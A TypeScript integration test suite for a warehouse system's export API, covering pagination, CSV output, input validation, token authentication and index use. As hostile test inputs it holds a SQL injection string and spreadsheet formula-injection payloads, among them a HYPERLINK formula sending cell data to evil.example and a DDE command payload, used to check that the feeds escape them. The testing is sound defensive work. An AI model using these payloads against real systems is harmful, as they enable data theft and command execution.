import fc from 'fast-check';
import { type Kysely, sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportEndpoints, FEEDS, type Feed } from '../../src/contract/export.ts';
import { contract, extraContract } from '../../src/contract/index.ts';
import { bookInventur } from '../../src/contract/inventur.ts';
import { paketausgang } from '../../src/contract/paketausgang.ts';
import {
  createIntegrationToken,
  listIntegrationTokens,
  revokeIntegrationToken,
} from '../../src/server/auth/integration-tokens.ts';
import type { Database } from '../../src/server/db/schema.ts';
import { pageQuery } from '../../src/server/features/export/feeds.ts';
import { demo } from '../../src/server/seed/demo.ts';
import { authHeaders, loginDemo, startTestApp, type TestApp } from '../support/app.ts';
import { databaseKinds } from '../support/db.ts';
import { caller } from '../support/endpoint-call.ts';

type Page = { items: Record<string, unknown>[]; nextCursor: string; hasMore: boolean };
const EPOCH = '2000-01-01T00:00:00Z';

describe.each(databaseKinds())('export API on %s', (kind) => {
  let t: TestApp;
  let integration: string;
  let scanner: string;

  /** A feed's page as the integration asks for it. */
  const get = (feed: Feed, query: Record<string, string>) =>
    caller(t.app, integration)(exportEndpoints[feed], { query });
  /** A query string as written, on the feed's path: repeated, misspelt or hostile parameters. */
  const getRaw = (feed: Feed, query: string) =>
    t.app.inject({
      method: 'GET',
      url: `${exportEndpoints[feed].path}?${query}`,
      headers: authHeaders(integration),
    });
  const page = async (feed: Feed, query: Record<string, string>): Promise<Page> => {
    const res = await get(feed, query);
    expect(res.statusCode, res.body).toBe(200);
    return res.json<Page>();
  };
  /** Every page of a feed from `query` on, following nextCursor while hasMore. */
  const allPages = async (feed: Feed, query: Record<string, string>) => {
    const ids: number[] = [];
    let p = await page(feed, query);
    let pages = 1;
    ids.push(...p.items.map((i) => i.id as number));
    while (p.hasMore) {
      p = await page(feed, { cursor: p.nextCursor, limit: '7' });
      ids.push(...p.items.map((i) => i.id as number));
      pages++;
    }
    return { ids, pages, last: p };
  };
  const idOf = async (table: 'locations' | 'articles' | 'users' | 'delivery_notes', where: string) => {
    const column = { locations: 'code', articles: 'nummer', users: 'name', delivery_notes: 'belegnr' }[table];
    const row = await sql<{
      id: number;
    }>`select id from ${sql.table(table)} where ${sql.ref(column)} = ${where}`.execute(t.database.db);
    const found = row.rows[0];
    if (!found) throw new Error(`no ${table} ${where}`);
    return found.id;
  };

  beforeAll(async () => {
    t = await startTestApp(kind);
    integration = await createIntegrationToken(t.database.db, 'erp');
    scanner = await loginDemo(t.app);
  });
  afterAll(() => t.close());

  it('pages through a journal in (time, id) order, none skipped or repeated, and picks up later bookings', async () => {
    // Seed rows share one time (one transaction): the id must order them. Add rows a microsecond apart.
    const article = await idOf('articles', demo.article.nummer);
    const location = await idOf('locations', demo.locations.empty);
    await sql`insert into movements (kind, article_id, to_location_id, amount, at)
      select 'korrektur', ${article}, ${location}, n, timestamptz '2020-01-01 00:00:00.000001Z' + n * interval '1 microsecond'
      from generate_series(1, 9) n`.execute(t.database.db);
    const expected = (
      await sql<{ id: number }>`select id from movements order by at, id`.execute(t.database.db)
    ).rows.map((r) => r.id);
    expect(expected.length).toBeGreaterThan(20);

    const { ids, pages, last } = await allPages('movements', { since: EPOCH, limit: '7' });
    expect(ids).toEqual(expected);
    expect(pages).toBe(Math.ceil(expected.length / 7));
    expect(last.hasMore).toBe(false);

    // The last cursor, stored by the integration, later yields exactly what was booked since.
    expect((await page('movements', { cursor: last.nextCursor })).items).toEqual([]);
    const count = await caller(t.app, scanner)(bookInventur, { body: { lp: location, article, amount: 5 } });
    expect(count.statusCode, count.body).toBe(200);
    const later = await page('movements', { cursor: last.nextCursor });
    expect(later.items).toEqual([
      expect.objectContaining({
        kind: 'inventur',
        article: demo.article.nummer,
        to: demo.locations.empty,
        from: null,
        amount: 5,
        user: demo.passwordUser.name,
      }),
    ]);
    expect((await page('movements', { cursor: later.nextCursor })).items).toEqual([]);

    const inventory = await page('inventory', { since: EPOCH });
    expect(inventory.items.at(-1)).toEqual({
      id: expect.any(Number),
      time: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z$/),
      location: demo.locations.empty,
      article: demo.article.nummer,
      counted: 5,
      previous: 0,
      user: demo.passwordUser.name,
    });
  });

  it('starts at since, to the microsecond and in any time zone, and honours since beside a cursor', async () => {
    // The rows added above lie a microsecond apart from 2020-01-01T00:00:00.000002Z on; the seed's come later.
    const all = await page('movements', { since: '2020-01-01T00:00:00.000005Z', limit: '8' });
    expect(all.items.slice(0, 6).map((i) => i.amount)).toEqual([4, 5, 6, 7, 8, 9]);
    expect(all.items[6]?.kind).toBe('seed');
    // The same instant written with an offset.
    const offset = await page('movements', { since: '2020-01-01T01:00:00.000005+01:00', limit: '8' });
    expect(offset.items).toEqual(all.items);
    // since and cursor together: after the cursor, and not before since.
    const cursor = (await page('movements', { since: EPOCH, limit: '1' })).nextCursor;
    const both = await page('movements', {
      cursor: cursor,
      since: '2020-01-01T00:00:00.000009Z',
      limit: '2',
    });
    expect(both.items.map((i) => i.amount)).toEqual([8, 9]);
  });

  it('answers the other feeds with codes and names, not database ids', async () => {
    const user = await idOf('users', demo.passwordUser.name);
    const note = await idOf('delivery_notes', demo.deliveryNotes.nonEu);
    const shipped = await caller(t.app, scanner)(paketausgang, { body: { tracking: demo.tracking } });
    expect(shipped.statusCode, shipped.body).toBe(200);
    await sql`insert into customs_parcels (cart_id, delivery_note_id, user_id)
      select id, ${note}, ${user} from carts where wagennummer = 'ZW01'`.execute(t.database.db);
    await sql`insert into wms_returns (article_id, location_id, amount, charge, mhd, quality, user_id)
      values (${await idOf('articles', demo.article.nummer)}, ${await idOf('locations', demo.locations.lhm)},
              3, ${'CH,"7"'}, '2027-12-31', 2, ${user})`.execute(t.database.db);

    expect((await page('parcels', { since: EPOCH })).items).toEqual([
      {
        id: expect.any(Number),
        time: expect.any(String),
        kind: 'ausgang',
        tracking: demo.tracking,
        carrier: 'dhl',
        belegnr: demo.deliveryNotes.eu,
        user: demo.passwordUser.name,
      },
    ]);
    expect((await page('customs', { since: EPOCH })).items).toEqual([
      {
        id: expect.any(Number),
        time: expect.any(String),
        cart: 'ZW01',
        belegnr: 'LS100002',
        user: 'Demo Nutzer',
      },
    ]);
    expect((await page('wmsreturns', { since: EPOCH })).items).toEqual([
      {
        id: expect.any(Number),
        time: expect.any(String),
        article: demo.article.nummer,
        location: demo.locations.lhm,
        amount: 3,
        charge: 'CH,"7"',
        mhd: '2027-12-31',
        quality: 2,
        user: demo.passwordUser.name,
      },
    ]);
  });

  it('writes CSV per RFC 4180 (or with ; and a byte order mark for Excel), the cursor in X-Next-Cursor', async () => {
    const json = await page('wmsreturns', { since: EPOCH });
    const csv = await get('wmsreturns', { since: EPOCH, format: 'csv' });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['x-next-cursor']).toBe(json.nextCursor);
    expect(csv.headers['x-has-more']).toBe('false');
    const row = json.items[0] as { id: number; time: string };
    expect(csv.body).toBe(
      'id,time,article,location,amount,charge,mhd,quality,user\r\n' +
        `${row.id},${row.time},100001,LHM000001,3,"CH,""7""",2027-12-31,2,Demo Nutzer\r\n`,
    );
    const excel = await get('wmsreturns', { since: EPOCH, format: 'csv', sep: ';' });
    expect(excel.body).toBe(
      '\uFEFFid;time;article;location;amount;charge;mhd;quality;user\r\n' +
        `${row.id};${row.time};100001;LHM000001;3;"CH,""7""";2027-12-31;2;Demo Nutzer\r\n`,
    );
    const paged = await get('movements', { since: EPOCH, format: 'csv', limit: '3' });
    expect(paged.body.trimEnd().split('\r\n')).toHaveLength(4);
    expect(paged.headers['x-has-more']).toBe('true');
    const next = await get('movements', {
      cursor: String(paged.headers['x-next-cursor']),
      format: 'csv',
      limit: '3',
    });
    expect(next.body.split('\r\n')[1]?.split(',')[0]).not.toBe(paged.body.split('\r\n')[3]?.split(',')[0]);
  });

  it('takes 1,000 rows a page by default and at most 10,000', async () => {
    const article = await idOf('articles', demo.article3.nummer);
    const location = await idOf('locations', demo.locations.second);
    await sql`insert into movements (kind, article_id, from_location_id, amount, at)
      select 'korrektur', ${article}, ${location}, 1, timestamptz '2031-01-01Z' + n * interval '1 second'
      from generate_series(1, 10050) n`.execute(t.database.db);
    const since = '2031-01-01T00:00:00Z';
    const first = await page('movements', { since });
    expect(first.items).toHaveLength(1000);
    expect(first.hasMore).toBe(true);
    const big = await page('movements', { since, limit: '10000' });
    expect(big.items).toHaveLength(10_000);
    expect(big.items[999]).toEqual(first.items[999]);
    const rest = await page('movements', { cursor: big.nextCursor, limit: '10000' });
    expect(rest.items).toHaveLength(50);
    expect(rest.hasMore).toBe(false);
  });

  it('refuses a bad since, cursor, limit or format with 400 and a message that names it', async () => {
    const otherFeed = (await page('customs', { since: EPOCH })).nextCursor;
    const cases: [string, string][] = [
      ['', 'Give since (an ISO 8601 time with time zone, e.g. 2026-11-23T00:00:00Z) or a cursor.'],
      ['since=yesterday', 'since must be an ISO 8601 time with a time zone'],
      ['since=2026-11-23T10:00:00', 'since must be an ISO 8601 time with a time zone'],
      ['since=2026-11-23', 'since must be an ISO 8601 time with a time zone'],
      ['since=0000-01-01T00:00:00Z', 'since must be an ISO 8601 time with a time zone'],
      ['cursor=abc', 'cursor is not one this feed handed out'],
      ['cursor=a%27%3B--', 'cursor is not one this feed handed out'],
      [`cursor=${otherFeed}`, 'cursor is not one this feed handed out'],
      [`since=${EPOCH}&limit=0`, 'limit must be a whole number from 1 to 10000.'],
      [`since=${EPOCH}&limit=10001`, 'limit must be a whole number from 1 to 10000.'],
      [`since=${EPOCH}&limit=abc`, 'limit must be a whole number from 1 to 10000.'],
      [`since=${EPOCH}&limit=5&limit=6`, 'limit must be a whole number from 1 to 10000.'],
      [`since=${EPOCH}&format=xml`, 'format must be json or csv.'],
      [`since=${EPOCH}&sep=;`, 'sep must be , or ; (only with format=csv).'],
      [`since=${EPOCH}&limt=5`, 'Unknown query parameter limt: use since, cursor, limit, format, sep.'],
    ];
    for (const [query, message] of cases) {
      const res = await getRaw('movements', query);
      expect(res.statusCode, query).toBe(400);
      expect(res.json(), query).toMatchObject({ success: false, message: expect.stringContaining(message) });
    }
  });

  it('answers hostile query strings with 200 or 400, never a server error', async () => {
    const value = fc.oneof(
      fc.string({ maxLength: 30 }),
      fc.constantFrom(
        "'; drop table movements; --",
        '%00',
        '-infinity',
        'infinity',
        '2026-02-30T00:00:00Z',
        '1e9',
      ),
      fc.constantFrom(
        EPOCH,
        '2026-11-23T00:00:00+14:00',
        '0000-01-01T00:00:00Z',
        '9999-12-31T23:59:59-14:00',
        '0',
        'csv',
        ';',
      ),
    );
    const key = fc.constantFrom('since', 'cursor', 'limit', 'format', 'sep', 'x');
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom(...FEEDS),
        fc.array(fc.tuple(key, value), { maxLength: 4 }),
        async (feed, pairs) => {
          const query = new URLSearchParams(pairs).toString();
          const res = await getRaw(feed, query);
          expect([200, 400], `${feed}?${query} → ${res.body}`).toContain(res.statusCode);
          if (res.statusCode === 400)
            expect(res.json()).toMatchObject({ success: false, message: expect.any(String) });
        },
      ),
      { numRuns: 60 },
    );
  });

  it('lets only integration tokens in: scanner logins get 403, no, unknown or revoked tokens 401', async () => {
    const spare = await createIntegrationToken(t.database.db, 'spare');
    expect(
      (await caller(t.app, spare)(exportEndpoints.movements, { query: { since: EPOCH } })).statusCode,
    ).toBe(200);
    await revokeIntegrationToken(t.database.db, 'spare');
    const refusals: [Record<string, string>, number, string][] = [
      [{}, 401, 'An integration token is required'],
      [authHeaders(`lsi_${'A'.repeat(43)}`), 401, 'Unknown or revoked integration token.'],
      [authHeaders(spare), 401, 'Unknown or revoked integration token.'],
      [{ 'access-token': integration }, 401, 'Unknown or revoked integration token.'],
      [authHeaders(scanner), 403, 'A scanner login cannot use the integration calls'],
      [{ 'access-token': scanner }, 403, 'A scanner login cannot use the integration calls'],
    ];
    for (const feed of FEEDS) {
      for (const [headers, status, message] of refusals) {
        // No login of the caller's own: each case's headers are the ones under test.
        const res = await caller(t.app, null)(exportEndpoints[feed], { query: { since: EPOCH }, headers });
        expect(res.statusCode, `${feed} ${JSON.stringify(headers)}`).toBe(status);
        expect(res.json()).toMatchObject({ success: false, message: expect.stringContaining(message) });
      }
    }
    const tokens = await listIntegrationTokens(t.database.db);
    expect(tokens.find((x) => x.name === 'erp')?.lastUsedAt).toBeInstanceOf(Date);
    expect(tokens.find((x) => x.name === 'spare')?.revokedAt).toBeInstanceOf(Date);
    const stored = await sql<{ token_hash: string }>`select token_hash from integration_tokens`.execute(
      t.database.db,
    );
    for (const row of stored.rows) {
      expect(row.token_hash).toMatch(/^[0-9a-f]{64}$/);
      expect([integration, spare]).not.toContain(row.token_hash);
    }
  });

  it('refuses an integration token on every scanner call with 403', async () => {
    const scannerCalls = [...contract, ...extraContract].filter((e) => e.auth);
    expect(scannerCalls.length).toBeGreaterThanOrEqual(31);
    for (const e of scannerCalls) {
      const params: Record<string, string> = {};
      for (const [, name] of e.path.matchAll(/:([A-Za-z_]+)/g)) if (name) params[name] = '1';
      const res = await caller(t.app, integration)(e, { params, body: {} });
      expect(res.statusCode, `${e.method} ${e.path}`).toBe(403);
      expect(res.json()).toMatchObject({
        success: false,
        message: 'An integration token can only use the integration calls (/api/export/, /api/integration/).',
      });
    }
  });

  it('writes no cell a spreadsheet would run as a formula, in every feed, and leaves JSON as it is', async () => {
    // Codes and names as a worker could have typed them or an ERP import brought them, each starting with a
    // character German Excel (sep=;) reads as the start of a formula. Booked in 2035: after every other row.
    const db = t.database.db;
    const hostile = {
      user: '@SUM(1+1)',
      location: '+49-LHM',
      article: '-2+3',
      charge: '=HYPERLINK("http://evil.example/?"&A1,"Klick")',
      tracking: '\t=1+1',
      carrier: "=cmd|' /C calc'!A0",
      belegnr: '\r=2+2',
      cart: '=ZW99',
      receipt: '=WE1',
      supplier: '@Lieferant',
    };
    const one = async <T>(query: Promise<{ rows: T[] }>) => {
      const row = (await query).rows[0];
      if (!row) throw new Error('insert returned no row');
      return row;
    };
    const ids = {
      user: (
        await one(
          sql<{ id: number }>`insert into users (name) values (${hostile.user}) returning id`.execute(db),
        )
      ).id,
      location: (
        await one(
          sql<{ id: number }>`insert into locations (code, name, is_lhm)
          values (${hostile.location}, 'x', true) returning id`.execute(db),
        )
      ).id,
      article: (
        await one(
          sql<{ id: number }>`insert into articles (nummer, name)
          values (${hostile.article}, 'x') returning id`.execute(db),
        )
      ).id,
      note: (
        await one(
          sql<{ id: number }>`insert into delivery_notes (belegnr, eu)
          values (${hostile.belegnr}, false) returning id`.execute(db),
        )
      ).id,
      cart: (
        await one(
          sql<{ id: number }>`insert into carts (wagennummer, bezeichnung)
          values (${hostile.cart}, 'x') returning id`.execute(db),
        )
      ).id,
    };
    const shipment = await one(
      sql<{ id: number }>`insert into shipments (tracking, delivery_note_id, carrier)
      values (${hostile.tracking}, ${ids.note}, ${hostile.carrier}) returning id`.execute(db),
    );
    const at = '2035-01-01T00:00:00Z';
    const receipt = await one(
      sql<{ id: number }>`insert into receipts (nummer, lieferant, status, closed_at, closed_by)
      values (${hostile.receipt}, ${hostile.supplier}, 'abgeschlossen', ${at}, ${ids.user}) returning id`.execute(
        db,
      ),
    );
    const receiptLine = await one(
      sql<{ id: number }>`insert into receipt_lines
        (receipt_id, article_id, charge, expected, received, fehlmenge, mehrmenge)
      values (${receipt.id}, ${ids.article}, ${hostile.charge}, 4, 1, 3, 0) returning id`.execute(db),
    );
    await sql`insert into receipt_differences (receipt_id, receipt_line_id, article_id, charge, expected,
                                               received, fehlmenge, mehrmenge, user_id, at)
      values (${receipt.id}, ${receiptLine.id}, ${ids.article}, ${hostile.charge}, 4, 1, 3, 0, ${ids.user},
              ${at})`.execute(db);
    await sql`insert into movements (kind, article_id, to_location_id, amount, charge, user_id, at, receipt_id,
                                     delivery_note_id)
      values ('korrektur', ${ids.article}, ${ids.location}, 5, ${hostile.charge}, ${ids.user}, ${at},
              ${receipt.id}, ${ids.note})`.execute(db);
    await sql`insert into pick_shortages (delivery_note_id, article_id, amount, user_id, at)
      values (${ids.note}, ${ids.article}, 2, ${ids.user}, ${at})`.execute(db);
    await sql`insert into inventory_counts (location_id, article_id, counted, previous, user_id, at)
      values (${ids.location}, ${ids.article}, 3, 0, ${ids.user}, ${at})`.execute(db);
    await sql`insert into wms_returns (article_id, location_id, amount, charge, mhd, quality, user_id, at)
      values (${ids.article}, ${ids.location}, 2, ${hostile.charge}, '2027-12-31', 2, ${ids.user}, ${at})`.execute(
      db,
    );
    await sql`insert into parcel_scans (shipment_id, kind, user_id, at)
      values (${shipment.id}, 'ausgang', ${ids.user}, ${at})`.execute(db);
    await sql`insert into customs_parcels (cart_id, delivery_note_id, user_id, at)
      values (${ids.cart}, ${ids.note}, ${ids.user}, ${at})`.execute(db);

    // Each text cell: a single quote before it (the spreadsheet shows the text), and quoted. Numbers as they are.
    const cell = {
      user: `"'@SUM(1+1)"`,
      location: `"'+49-LHM"`,
      article: `"'-2+3"`,
      charge: `"'=HYPERLINK(""http://evil.example/?""&A1,""Klick"")"`,
      tracking: `"'\t=1+1"`,
      carrier: `"'=cmd|' /C calc'!A0"`,
      belegnr: `"'\r=2+2"`,
      cart: `"'=ZW99"`,
      receipt: `"'=WE1"`,
      supplier: `"'@Lieferant"`,
    };
    const expected: Record<Feed, (id: number, time: string) => string> = {
      movements: (id, time) =>
        `${id},${time},korrektur,${cell.article},,${cell.location},5,${cell.charge},,${cell.user},${cell.receipt},${cell.belegnr}`,
      inventory: (id, time) => `${id},${time},${cell.location},${cell.article},3,0,${cell.user}`,
      wmsreturns: (id, time) =>
        `${id},${time},${cell.article},${cell.location},2,${cell.charge},2027-12-31,2,${cell.user}`,
      parcels: (id, time) =>
        `${id},${time},ausgang,${cell.tracking},${cell.carrier},${cell.belegnr},${cell.user}`,
      customs: (id, time) => `${id},${time},${cell.cart},${cell.belegnr},${cell.user}`,
      receiptdifferences: (id, time) =>
        `${id},${time},${cell.receipt},${cell.supplier},${cell.article},${cell.charge},,4,1,3,0,${cell.user}`,
      pickshortages: (id, time) => `${id},${time},${cell.belegnr},${cell.article},2,${cell.user}`,
    };
    for (const feed of FEEDS) {
      const json = await page(feed, { since: at });
      expect(json.items, feed).toHaveLength(1);
      const item = json.items[0] as { id: number; time: string; user: string };
      // JSON carries the text unchanged: it is data for a program, no spreadsheet reads it.
      expect(item.user, feed).toBe(hostile.user);
      const csv = await get(feed, { since: at, format: 'csv' });
      expect(csv.statusCode, feed).toBe(200);
      const [header, ...rest] = csv.body.split('\r\n');
      expect(header, feed).not.toMatch(/^\uFEFF/);
      expect(rest.join('\r\n'), feed).toBe(`${expected[feed](item.id, item.time)}\r\n`);
      const excel = await get(feed, { since: at, format: 'csv', sep: ';' });
      expect(excel.body.split('\r\n').slice(1).join('\r\n'), feed).toBe(
        `${expected[feed](item.id, item.time).replace(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/g, ';')}\r\n`,
      );
    }
  });

  it('reads a page through the (time, id) index, with no sort', async () => {
    const explain = async (db: Kysely<Database>, feed: Feed, after: string) => {
      const query = pageQuery(feed, { after: { time: after, id: 0 }, since: null, limit: 1001 }).compile(db);
      const { rows } = await db.executeQuery<{ 'QUERY PLAN': string }>({
        ...query,
        sql: `explain ${query.sql}`,
      });
      return rows.map((r) => r['QUERY PLAN']).join('\n');
    };
    await sql`analyze`.execute(t.database.db);
    // movements holds 10,000+ rows by now: the planner picks the index on its own.
    const movements = await explain(t.database.db, 'movements', '2031-01-01T02:00:00Z');
    expect(movements).toContain('movements_at_id_idx');
    expect(movements).not.toMatch(/\bSort\b/);
    // The other journals hold a handful of rows here, where reading the whole table is cheaper; with table
    // scans ruled out, the index must still deliver the order (without it, the plan would sort).
    await t.database.db.transaction().execute(async (trx) => {
      await sql`set local enable_seqscan = off`.execute(trx);
      for (const [feed, index] of [
        ['inventory', 'inventory_counts_at_id_idx'],
        ['wmsreturns', 'wms_returns_at_id_idx'],
        ['parcels', 'parcel_scans_at_id_idx'],
        ['customs', 'customs_parcels_at_id_idx'],
        ['receiptdifferences', 'receipt_differences_at_id_idx'],
        ['pickshortages', 'pick_shortages_at_id_idx'],
      ] as const) {
        const plan = await explain(trx, feed, EPOCH);
        expect(plan, feed).toContain(index);
        expect(plan, feed).not.toMatch(/\bSort\b/);
      }
    });
  });
});
